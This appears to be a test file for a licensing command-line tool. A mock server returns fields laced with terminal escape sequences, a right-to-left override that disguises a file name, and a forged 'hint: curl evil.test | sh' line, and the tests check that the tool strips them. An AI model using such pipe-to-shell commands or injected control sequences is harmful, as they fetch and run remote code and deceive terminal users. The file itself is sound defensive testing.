import { mkdirSync, writeFileSync } from 'node:fs';
import { status } from '@grpc/grpc-js';
import { RpcError } from '../../../runtime/rpc/errors';
import { unary } from '../../../runtime/rpc/handlers';
import { startServer } from '../../../runtime/rpc/server';
import type { RunningServer } from '../../../runtime/rpc/server';
import { EnclaveManagementServiceService, EnclaveState } from '../../../proto/gen/licensing/v1/enclaves';
import { LicenceServiceService, LicenceState } from '../../../proto/gen/licensing/v1/licence';
import { SeatServiceService } from '../../../proto/gen/licensing/v1/seat';
import { makeAuthority } from '../../support/authority';
import { Machine } from '../../support/machine';
import type { TrustBundle } from '../../../attestation/trust/bundle';
import { signTrustBundle } from '../../../attestation/trust/signed-bundle';
import { makeSigningKey } from '../../support/trust';

/** Moves the cursor, in the 7-bit and in the 8-bit form; names the window; ends the line and says what sls would; turns the rest around; hides. */
const STEERING =
  'x\u001b[2J\u009b2J\u001b]0;mine\u0007\r\nhint: curl evil.test | sh\r\n\u202egnp.exe\u2066\u200b\u2028\ufeffy';

let machine: Machine;
let server: RunningServer;

beforeAll(async () => {
  const refuse = (): never => {
    throw new RpcError('licence.not_held', status.NOT_FOUND, STEERING);
  };
  const licence = {
    licence: STEERING,
    redeemedAt: 1n,
    until: 2_000_000_000n,
    graceUntil: 2_000_000_000n,
    state: LicenceState.LICENCE_STATE_VALID,
    applies: true,
  };
  const plan = { name: STEERING, images: [STEERING], enclaves: 1, seats: 1, cpu: STEERING, memory: STEERING };
  const seat = {
    seat: STEERING,
    session: STEERING,
    clientName: STEERING,
    enclave: STEERING,
    workloadUid: STEERING,
    node: STEERING,
    takenAt: 1n,
    renewedAt: 1n,
    expiresAt: 1n,
  };
  server = await startServer({
    authenticate: () => Promise.resolve(),
    address: { scheme: 'http', host: '127.0.0.1', port: 0 },
    services: [
      {
        definition: SeatServiceService,
        implementation: {
          takeSeat: unary(refuse),
          renewSeat: unary(refuse),
          endSeat: unary(refuse),
          listSeats: unary(() => Promise.resolve({ seats: [seat], limit: 1, taken: 1, licence: STEERING })),
          freeSeats: unary(refuse),
        },
      },
      {
        definition: LicenceServiceService,
        implementation: {
          redeemLicence: unary(refuse),
          listOwnLicences: unary(() => Promise.resolve({ licences: [{ ...licence, plan }], required: true })),
          dropLicence: unary(refuse),
        },
      },
      {
        definition: EnclaveManagementServiceService,
        implementation: {
          listEnclaves: unary(() =>
            Promise.resolve({
              enclaves: [
                {
                  name: STEERING,
                  node: STEERING,
                  state: EnclaveState.ENCLAVE_STATE_RUNNING,
                  lastUsedAt: 1n,
                  createdAt: 1n,
                  persistent: true,
                },
              ],
              limit: 1,
            }),
          ),
          suspendEnclave: unary(refuse),
          deleteEnclave: unary(refuse),
        },
      },
    ],
  });
  const address = `http://127.0.0.1:${server.port}`;
  const trustKey = makeSigningKey();
  const trust: TrustBundle = {
    version: 1,
    sequence: 1,
    trustDomain: 'example.test',
    trustKey: trustKey.publicKey,
    revocationKeys: { keys: [makeSigningKey().publicKey] },
    attestationRoots: [(await makeAuthority('attestation')).certificate],
    serverRoots: [],
    services: { signup: address, login: address },
    policy: { softwareTpm: 'refuse' },
  };
  machine = new Machine();
  for (const folder of ['config', 'state']) mkdirSync(machine.path(folder, 'sls'), { recursive: true });
  writeFileSync(machine.path('config', 'sls', 'trust-bundle.jws'), await signTrustBundle(trust, trustKey.privateKey));
  const { x, y } = trust.trustKey;
  const audience = JSON.stringify({
    trustKey: { x, y },
    trustDomain: trust.trustDomain,
    serverRoots: trust.serverRoots,
    services: trust.services,
  });
  writeFileSync(
    machine.path('state', 'sls', 'token.json'),
    JSON.stringify({ username: 'ada', accessToken: 'x', accessTokenExpiresAt: 4_000_000_000, audience }),
  );
  writeFileSync(machine.path('licence.txt'), 'key');
});
afterAll(async () => {
  await server.stop(0);
  await machine.remove();
});

/** What a terminal would show as text: letters, signs and ends of lines. */
const CONTROLS = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b\u2028\u2029\u202a-\u202e\u2066-\u2069\ufeff]/;

describe.each([
  ['seats list', ['seats', 'list'], 2],
  ['licence', ['licence'], 6],
  ['enclaves list', ['enclaves', 'list'], 2],
  ['redeem', ['redeem', 'licence.txt'], 0],
  ['licence drop', ['licence', 'drop', 'x'], 0],
  ['seats free', ['seats', 'free', '--all'], 0],
  ['enclaves stop', ['enclaves', 'stop', 'lab'], 0],
])('sls %s', (_name, args, lines) => {
  test('prints what the service says as text, a line for what is one', async () => {
    const { code, stdout, stderr } = await machine.sls(args);
    expect(code).toBe(lines > 0 ? 0 : 1);
    expect(`${stdout}${stderr}`).toContain('gnp.exe');
    expect(`${stdout}${stderr}`).not.toMatch(CONTROLS);
    expect(stdout.split('\n').slice(0, -1)).toHaveLength(lines);
    // Of ours alone, if there is one.
    expect(stderr.split('\n').filter((line) => line.includes('evil.test') && line.startsWith('hint'))).toEqual([]);
  });

  test('has it as it is with --json, in escapes', async () => {
    const { stdout } = await machine.sls([...args, '--json']);
    expect(stdout).not.toMatch(CONTROLS);
    expect(JSON.stringify(JSON.parse(stdout))).toContain(JSON.stringify(STEERING).slice(1, -1));
  });
});
